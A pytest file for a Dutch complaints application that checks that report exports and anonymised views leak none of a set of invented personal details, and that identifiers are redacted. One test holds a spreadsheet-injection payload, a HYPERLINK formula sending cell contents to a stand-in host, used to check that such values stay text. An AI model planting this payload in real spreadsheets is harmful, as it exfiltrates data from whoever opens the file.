"""No export names anyone: unique names, client numbers, addresses, phone numbers,
e-mail addresses and dates of birth are seeded in every field and free text of youth
complaints, and searched for in the PDF, CSV and XLSX report, the anonymised view and
the public annual report."""

from __future__ import annotations

import io
import re
from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook
from pypdf import PdfReader

from klachtpad.complaints import services
from klachtpad.complaints.models import Client, ClientContact, Complaint, OtherInvolved
from klachtpad.complaints.services.attachments import complaint_attachment_add
from klachtpad.complaints.services.judgements import MeasureInput
from klachtpad.domain.schemes.vocabulary import Relation, StepOutcome, Verdict
from klachtpad.domain.workflow import Closure
from klachtpad.organisations.models import Membership, Organisation, Procedure
from tests.complaints.factories import UserFactory
from tests.reports.build import Builder

pytestmark = pytest.mark.django_db

SECRETS = [
    "Xandrijn",
    "Quibbelaar",
    "ZQ-775533",
    "Wolkenkrabberlaan",
    "9999 ZZ",
    "Nergenshuizen",
    "0698765432",
    "voorbeeld.nl",
    "Yolanthe",
    "Prikkebeen",
    "Fluitekruid",
    "Bertus",
    "Margriet",
    "17-04-2011",
    "17 april 2011",
    "Zwaantje",  # a colleague on staff, named in free text
    "Gerritsma",  # someone else involved, known to the file
    "Haloperidol",  # health terms the organisation lists
    "Korsakovsyndroom",
    "Zebravink",  # only in the name of an attachment
]
LEAKY = (
    "Xandrijn Quibbelaar (ZQ-775533, geboren 17-04-2011) van de Wolkenkrabberlaan 77, "
    "9999 ZZ Nergenshuizen, tel. 06-98765432, xandrijn.q@voorbeeld.nl; moeder Margriet "
    "Quibbelaar; contactpersoon Yolanthe Prikkebeen; medewerker Bertus Fluitekruid; "
    "collega Zwaantje Zomerdijk; geboren op 17 april 2011. Huisarts Ottoline Gerritsma "
    "schreef Haloperidol voor bij het Korsakovsyndroom. Zie scan-Zebravink.pdf."
)


def _flat(text: str) -> str:
    """Text with runs of spaces, dashes and dots removed, so 06-98765432 matches too."""
    return re.sub(r"[\s]+", " ", text)


def found_in(text: str) -> list[str]:
    flat = _flat(text).lower()
    digits = re.sub(r"[\s.-]", "", text)
    return [
        secret
        for secret in SECRETS
        if secret.lower() in flat or (secret.isdigit() and secret in digits)
    ]


@pytest.fixture
def youth(seeded, travel):
    organisation = Organisation.objects.get(slug="zorgkracht12")
    organisation.redaction_terms = "haloperidol\nKorsakovsyndroom"
    organisation.save()
    procedure = Procedure.objects.get(organisation=organisation, key="youth")
    colleague = UserFactory.create(
        username="zwaantje", first_name="Zwaantje", last_name="Zomerdijk"
    )
    Membership.objects.create(user=colleague, organisation=organisation, role="key_worker")
    build = Builder(procedure, travel)
    client = Client.objects.create(
        organisation=organisation,
        client_number="ZQ-775533",
        name="Xandrijn Quibbelaar",
        date_of_birth=date(2011, 4, 17),
    )
    ClientContact.objects.create(
        client=client,
        name="Yolanthe Prikkebeen",
        relation=Relation.FAMILY_MEMBER,
        phone="06-98765432",
        registered_on=date(2025, 1, 1),
    )
    complainant = services.Complainant(
        name="Margriet Quibbelaar",
        relation=Relation.PARENT,
        email="xandrijn.q@voorbeeld.nl",
        phone="06-98765432",
        address="Wolkenkrabberlaan 77\n9999 ZZ Nergenshuizen",
        client_name="Xandrijn Quibbelaar",
    )
    complaints = []
    for number in range(5):
        complaint = build.complaint(
            f"2026-0{number + 1}-05",
            client=client,
            complainant=complainant,
            description=LEAKY,
            employees=("Bertus Fluitekruid",),
            desired_outcome=LEAKY,
            already_tried=LEAKY,
            location="Groep Zonneveld",
        )
        OtherInvolved.objects.create(complaint=complaint, name="Ottoline Gerritsma")
        complaint = complaint_attachment_add(
            complaint,
            actor=build.actor,
            upload=SimpleUploadedFile("scan-Zebravink.pdf", b"%PDF-1.4\n%%EOF\n"),
        )
        build.on(f"2026-0{number + 1}-20")
        complaint = _to_committee(complaint, build)
        complaint = services.complaint_judgement_record(
            complaint,
            actor=build.actor,
            verdict=Verdict.PARTLY_UPHELD,
            reasons=LEAKY,
            decisions=LEAKY,
            recommendations=f"Aanbeveling {number}: {LEAKY}",
            measures=[
                MeasureInput(
                    f"Maatregel {number}: {LEAKY}", "Bertus Fluitekruid", date(2026, 12, 1)
                )
            ],
        )
        complaint = services.complaint_close(complaint, actor=build.actor)
        services.complaint_satisfaction_record(complaint, actor=build.actor, score=3, remark=LEAKY)
        complaints.append(complaint)
    build.on("2026-11-22")
    # The youth procedure sets no decision term; one decision is recorded as late, and
    # one complaint as declined, each explained with the same names.
    Complaint.objects.filter(pk=complaints[1].pk).update(
        decided_in_time=False, late_explanation=LEAKY
    )
    Complaint.objects.filter(pk=complaints[2].pk).update(
        closure=Closure.DECLINED.value, declined_reason=LEAKY
    )
    build.on("2026-11-22")
    return organisation, complaints


def _to_committee(complaint, build):
    """Klachtenportaal Zorg mediates without result; its committee judges."""
    return services.complaint_referral_outcome(
        complaint, actor=build.actor, outcome=StepOutcome.NOT_RESOLVED, summary=LEAKY
    )


def test_the_secrets_are_really_in_the_files(youth):
    # The check can fail: the raw text holds every secret.
    assert found_in(LEAKY) == SECRETS


def test_no_export_names_anyone(youth, sign_in, client):
    organisation, complaints = youth
    officer = UserFactory.create(username="kf", first_name="Kees", last_name="Functionaris")
    Membership.objects.create(user=officer, organisation=organisation, role="complaints_officer")
    sign_in(officer)
    report = "/staff/zorgkracht12/reports/?start=2026-01-01&end=2026-12-31&as="
    pdf = client.get(report + "pdf").content
    csv_text = client.get(report + "csv").content.decode("utf-8-sig")
    book = load_workbook(io.BytesIO(client.get(report + "xlsx").content))
    public = "/staff/zorgkracht12/reports/public/youth/?year=2026&as="
    public_html = client.get(public + "html").content.decode()
    public_pdf = client.get(public + "pdf").content
    anonymised = client.get(
        f"/staff/zorgkracht12/complaints/{complaints[0].reference}/anonymised/"
    ).content.decode()
    exports = {
        "report.pdf": _pdf_text(pdf),
        "report.csv": csv_text,
        "report.xlsx": _xlsx_text(book),
        "public.html": public_html,
        "public.pdf": _pdf_text(public_pdf),
        "anonymised": anonymised,
    }
    # The exports hold the texts, with the people taken out.
    assert "[naam]" in csv_text
    assert "Aanbeveling 1" in public_html and "Maatregel 2" in public_html
    assert "Wat de klager wil" in anonymised and "[medewerker 1]" in anonymised
    assert "Groep Zonneveld" in anonymised
    assert "[gezondheidsgegeven]" in anonymised and "[bestand]" in anonymised
    assert {name: found_in(text) for name, text in exports.items()} == {
        name: [] for name in exports
    }


def _pdf_text(content: bytes) -> str:
    assert content.startswith(b"%PDF")
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def _xlsx_text(book: Workbook) -> str:
    return "\n".join(
        str(cell)
        for sheet in book.worksheets
        for row in sheet.iter_rows(values_only=True)
        for cell in row
        if cell is not None
    )


def test_a_typed_formula_stays_text_in_csv_and_xlsx():
    """A decline motivation or category name that starts like a formula is not run by
    the spreadsheet program that opens the download."""
    from io import BytesIO

    from openpyxl import load_workbook

    from klachtpad.domain.reporting import Period
    from klachtpad.reports.exports import report_csv, report_xlsx
    from klachtpad.reports.report import Explained
    from klachtpad.reports.sections import Row, Section

    hostile = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
    sections = [Section("categories", "Categorieën", [Row("=1+1", 2, 1), Row("@SUM(A1)", 1, 0)])]
    declined = [Explained("2026-0001", hostile), Explained("2026-0002", "-2+3")]
    period = Period.year(2026)
    text = report_csv(sections, [], declined, period).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ";'=1+1;" in text and "'@SUM" in text and "'-2+3" in text
    book = load_workbook(BytesIO(report_xlsx(sections, [], declined, period, "Rapport")))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert hostile in [cell.value for cell in cells]


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        # A BSN passes the eleven test; a nine-digit order number that does not stays.
        ("Haar BSN is 123456782.", "Haar BSN is [BSN]."),
        ("BSN 123.456.782 bekend", "BSN [BSN] bekend"),
        ("Bestelnummer 123456789", "Bestelnummer 123456789"),
        ("IBAN NL91 ABNA 0417 1643 00 graag", "IBAN [rekeningnummer] graag"),
        ("Rekening NL91ABNA0417164301", "Rekening NL91ABNA0417164301"),  # check digits fail
        ("Ze woont aan de Dorpsstraat 12a in Utrecht", "Ze woont aan de [adres] in Utrecht"),
        ("Adres: Kerkweg 3-5", "Adres: [adres]"),
        ("Zij is geboren op 12-03-1980.", "Zij is [geboortedatum]."),
        ("geb. 4 mei 1975", "[geboortedatum]"),
    ],
)
def test_identifiers_the_file_does_not_list_are_removed_too(text, kept):
    from klachtpad.domain.anonymising import Identifiers, Redactor

    assert Redactor(Identifiers())(text) == kept
